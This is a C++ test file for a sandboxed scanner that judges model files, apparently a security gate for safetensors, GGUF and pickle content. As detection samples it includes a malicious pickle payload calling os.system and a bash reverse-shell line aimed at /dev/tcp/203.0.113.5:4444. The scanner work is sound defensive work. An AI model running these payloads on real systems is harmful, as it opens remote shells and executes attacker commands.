// The sandboxed reader: what it cannot do, and that its failure is never an "allow".
#include "protocol.hpp"
#include "test/benign_repositories.hpp"

#include <locara/gate/gate.hpp>
#include <locara/test_support/folders.hpp>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <csignal>
#include <fstream>

#include <fcntl.h>

namespace locara::gate {
namespace {

namespace fs = std::filesystem;
using formats::Decision;
using testing::HasSubstr;

class Worker : public testing::Test {
  protected:
    void SetUp() override {
        auto folder = TempFolder::create(fs::temp_directory_path(), "gate-");
        ASSERT_TRUE(folder);
        folder_.emplace(std::move(*folder));
    }

    Fd file(const std::string& bytes) {
        const fs::path path = folder_->path() / "file";
        std::ofstream(path, std::ios::binary) << bytes;
        return open_file(path, O_RDWR).value();
    }

    static Options bad(const std::string& mode) {
        Options options;
        options.program = test_support::binary_dir() / "bin/locara_gate_bad_worker";
        options.arguments = {mode};
        return options;
    }

    std::optional<TempFolder> folder_;
};

TEST_F(Worker, judges_many_files_one_after_the_other) {
    Gate gate{Options{}};
    const auto text = gate.judge(file("just text\n"), "notes.txt");
    EXPECT_EQ(text.rule, "content.inert") << text.reason;
    const auto first = gate.idle_workers();
    ASSERT_EQ(first.size(), 1U);
    for (int i = 0; i < 20; ++i) {
        const auto pickle = gate.judge(file("cos\nsystem\n(S'id'\ntR."), "model.safetensors");
        EXPECT_EQ(pickle.rule, "pickle.import.malicious") << pickle.reason;
        ASSERT_EQ(pickle.imports.size(), 1U);
        EXPECT_EQ(pickle.imports[0].module, "os");
    }
    EXPECT_EQ(gate.idle_workers(), first) << "one process for all of them";
}

TEST_F(Worker, gives_the_verdict_that_this_process_would_give) {
    Gate gate{Options{}};
    for (const auto& entry :
         fs::recursive_directory_iterator(test_support::source_dir() / "src/formats/test/data")) {
        if (!entry.is_regular_file()) {
            continue;
        }
        const Fd fd = open_file(entry.path(), O_RDONLY).value();
        auto here = formats::scan_fd(fd, entry.path().filename().string());
        here.imports.resize(std::min(here.imports.size(), kMaxImports));
        EXPECT_EQ(gate.judge(fd, entry.path().filename().string()), here) << entry.path();
    }
}

TEST_F(Worker, says_what_the_header_of_weights_says) {
    Gate gate{Options{}};
    const fs::path folder = test_support::source_dir() / "models/quick-add/repo";
    for (const char* const name : {"quick-add-q8_0.gguf", "model.safetensors"}) {
        const Fd fd = open_file(folder / name, O_RDONLY).value();
        const auto here = formats::examine_fd(fd, name);
        ASSERT_TRUE(here.facts);
        EXPECT_EQ(gate.examine(fd, name), here);
        const auto source = formats::FileSource::create(fd, name).value();
        EXPECT_EQ(gate.examine(source, name), here);
    }
}

TEST_F(Worker, is_read_to_where_there_is_no_file) {
    Gate gate{Options{}};
    const auto judge = [&](const std::string& bytes, std::string_view name) {
        return gate.judge(formats::MemorySource(as_bytes(bytes)), name);
    };
    EXPECT_EQ(judge("just text\n", "a.txt").rule, "content.inert");
    EXPECT_EQ(judge("", "a.txt").rule, "content.empty");
    EXPECT_EQ(judge("cos\nsystem\n(S'id'\ntR.", "a.gguf").rule, "pickle.import.malicious");
    // More than one message, and looked at to the end.
    std::string text;
    while (text.size() < 3U << 20U) {
        text += "A line of an ordinary text.\n";
    }
    EXPECT_EQ(judge(text, "a.txt").rule, "content.inert");
    text += "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n";
    EXPECT_EQ(judge(text, "a.txt").rule, "yara.reverse-shell");

    class Broken final : public formats::ByteSource {
      public:
        std::uint64_t size() const override { return 100; }

        Status read(std::uint64_t, std::span<std::byte>) const override {
            return Error(ErrorCode::Io, "the disk is gone");
        }
    };

    EXPECT_EQ(gate.judge(Broken(), "a.txt").rule, formats::kRuleRead);
    EXPECT_EQ(judge("just text\n", "a.txt").rule, "content.inert");
}

TEST_F(Worker, that_asks_for_what_is_not_there_gets_nothing) {
    for (const char* mode : {"reads-beyond", "reads-nothing", "reads-too-much"}) {
        Gate gate(bad(mode));
        const std::string bytes(100, 'x');
        EXPECT_EQ(gate.judge(formats::MemorySource(as_bytes(bytes)), "a").rule, "gate.worker")
            << mode;
        EXPECT_EQ(gate.judge(file(bytes), "a").rule, "gate.worker")
            << mode << ": who has a descriptor is not read to";
    }
}

TEST_F(Worker, that_was_killed_is_started_again) {
    Gate gate{Options{}};
    EXPECT_EQ(gate.judge(file("text\n"), "a.txt").rule, "content.inert");
    const auto workers = gate.idle_workers();
    ASSERT_EQ(workers.size(), 1U);
    kill(workers[0], SIGKILL);
    EXPECT_EQ(gate.judge(file("text\n"), "a.txt").rule, "content.inert");
    EXPECT_NE(gate.idle_workers(), workers);
}

TEST_F(Worker, that_fails_is_never_an_allow) {
    for (const char* mode : {"exits",
                             "crashes",
                             "hangs",
                             "memory",
                             "nonsense",
                             "too-long",
                             "half",
                             "other-json",
                             "unknown-rule",
                             "milder",
                             "more",
                             "less",
                             "wrong-type",
                             "stranger",
                             "never-ready"}) {
        Options options = bad(mode);
        if (std::string_view(mode) == "hangs") {
            options.patience = std::chrono::milliseconds(100);
        }
        Gate gate(options);
        const auto verdict = gate.judge(file("text\n"), "a.txt");
        EXPECT_EQ(verdict.rule, "gate.worker") << mode << ": " << verdict.reason;
        EXPECT_EQ(verdict.decision, Decision::Refuse) << mode;
        EXPECT_TRUE(gate.idle_workers().empty()) << mode << " is not asked again";
        if (std::string_view(mode) == "hangs") {
            EXPECT_THAT(verdict.reason, HasSubstr("no answer in time"));
        }
        if (std::string_view(mode) == "memory") {
            EXPECT_THAT(verdict.reason, HasSubstr("it ended with"));
        }
    }
    Gate right(bad("right"));
    EXPECT_EQ(right.judge(file("text\n"), "a.txt").rule, "content.inert");
    Options missing;
    missing.program = "/nonexistent/locara-gate";
    EXPECT_EQ(Gate(missing).judge(file("text\n"), "a.txt").rule, "gate.worker");
}

std::string number(std::uint64_t value, unsigned bytes) {
    std::string out;
    for (unsigned i = 0; i < bytes; ++i) {
        out += static_cast<char>(value >> (8 * i));
    }
    return out;
}

/// As much as a header may hold: 100,000 tensors and as many entries of metadata, about 100 MB.
std::string largest_safetensors() {
    constexpr std::size_t kCount = 100'000;
    const std::string pad(410, 'x');
    std::string header = R"({"__metadata__":{)";
    header.reserve(100U << 20U);
    for (std::size_t i = 0; i < kCount; ++i) {
        header +=
            (i == 0 ? "\"" : ",\"") + std::to_string(i) + pad + R"(":")" + pad.substr(60) + "\"";
    }
    header += "}";
    for (std::size_t i = 0; i < kCount; ++i) {
        header += ",\"t" + std::to_string(i) + pad.substr(270) +
                  R"(":{"dtype":"U8","shape":[1],"data_offsets":[)" + std::to_string(i) + "," +
                  std::to_string(i + 1) + "]}";
    }
    header += "}";
    return number(header.size(), 8) + header + std::string(kCount, '\0');
}

/// 65,536 keys, as many tensors, and a vocabulary of 250,000 tokens.
std::string largest_gguf() {
    constexpr std::uint64_t kMost = 65'536;
    constexpr std::uint64_t kTokens = 250'000;
    const auto text = [](const std::string& value) { return number(value.size(), 8) + value; };
    std::string out = "GGUF" + number(3, 4) + number(kMost, 8) + number(kMost, 8);
    out += text("general.architecture") + number(8, 4) + text("llama");
    out += text("tokenizer.ggml.tokens") + number(9, 4) + number(8, 4) + number(kTokens, 8);
    for (std::uint64_t i = 0; i < kTokens; ++i) {
        out += text("token" + std::to_string(i));
    }
    for (std::uint64_t i = 2; i < kMost; ++i) {
        std::string key = "key." + std::to_string(i);
        key.resize(120, 'k');
        out += text(key) + number(4, 4) + number(i, 4);
    }
    for (std::uint64_t i = 0; i < kMost; ++i) {
        std::string name = "t" + std::to_string(i);
        name.resize(63, 't');
        out += text(name) + number(1, 4) + number(32, 8) + number(24, 4) + number(32 * i, 8);
    }
    out.resize((out.size() + 31) / 32 * 32);
    return out + std::string(32 * kMost, '\0');
}

TEST_F(Worker, reads_the_largest_headers_in_256_mib) {
    Options options;
    EXPECT_EQ(options.memory_bytes, 256U << 20U); // as the threat model has it
    options.time = std::chrono::seconds(60);      // this is about memory
    options.patience = std::chrono::seconds(120);
    const std::string safetensors = largest_safetensors();
    EXPECT_GT(safetensors.size(), 95'000'000U);
    Gate gate(options);
    EXPECT_EQ(gate.judge(file(safetensors), "model.safetensors").rule, "safetensors.valid");
    EXPECT_EQ(gate.judge(file(largest_gguf()), "model.gguf").rule, "gguf.valid");
    options.memory_bytes = 64U << 20U;
    EXPECT_EQ(Gate(options).judge(file(safetensors), "model.safetensors").rule, "scan.memory");
}

// By all scanners that need no service, as every door asks them.
TEST_F(Worker, passes_benign_repositories_whole) {
    Gate gate{Options{}};
    std::size_t files = 0;
    for (const auto& [name, repository] : formats::benign::repositories()) {
        for (const auto& [path, bytes] : repository) {
            const auto verdict = gate.judge(formats::MemorySource(as_bytes(bytes)),
                                            fs::path(path).filename().string());
            EXPECT_EQ(verdict.decision, Decision::Allow)
                << name << "/" << path << ": " << verdict.rule << " (" << verdict.reason << ")";
            ++files;
        }
    }
    EXPECT_GE(files, 300U);
}

TEST_F(Worker, has_no_way_out) {
    const fs::path outside = folder_->path() / "outside";
    std::ofstream(outside) << "x";
    fs::permissions(outside, fs::perms::all);
    fs::permissions(folder_->path(), fs::perms::all);
    for (const char* way : {"reads", "writes", "connects", "runs"}) {
        Options options = bad("gets-out");
        options.arguments.insert(options.arguments.end(), {way, outside.string()});
        Gate gate(options);
        const auto verdict = gate.judge(file("text\n"), "a.txt"); // "content.inert" if it gets out.
        EXPECT_EQ(verdict.rule, "gate.worker") << way << ": " << verdict.reason;
        EXPECT_THAT(verdict.reason, HasSubstr("it ended with")) << way;
    }
}

TEST_F(Worker, gets_a_descriptor_that_cannot_write) {
    Gate gate(bad("can-it-write"));
    const Fd both_ways = file("x");
    EXPECT_EQ(gate.judge(both_ways, "x").rule, "content.inert");
}

TEST_F(Worker, is_asked_about_regular_files_only) {
    Gate gate{Options{}};
    const Fd null = open_file("/dev/null", O_RDONLY).value();
    EXPECT_EQ(gate.judge(null, "null").rule, "io.type");
    EXPECT_EQ(gate.judge(Fd(), "closed").decision, Decision::Refuse);
    EXPECT_TRUE(gate.idle_workers().empty());
}

} // namespace
} // namespace locara::gate
